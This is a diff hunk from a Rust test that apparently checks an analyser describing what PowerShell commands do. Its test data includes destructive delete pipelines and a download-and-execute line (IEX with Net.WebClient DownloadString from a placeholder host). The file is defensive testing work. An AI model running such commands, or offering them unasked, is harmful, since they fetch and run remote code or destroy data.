@@ -21,6 +21,7 @@ fn what_powershell_does_is_found() {
             ("(gci /x).FullName | mi -dest /y", "Delete /x/* [moving]"),
             ("gci /x -Filter *.log | ri", "Delete /x/* [narrowed]"),
             ("gci /x | ? { $_.Length } | % FullName | ri", "Delete /x/* [narrowed]"),
+            ("gci /x | Out-File /y", "Write /y = /x/names [emptying]"),
             ("gi /x | sort | ri -r", "Delete /x [recursive]"),
             (
                 "IEX (New-Object Net.WebClient).DownloadString('http://h/x')",
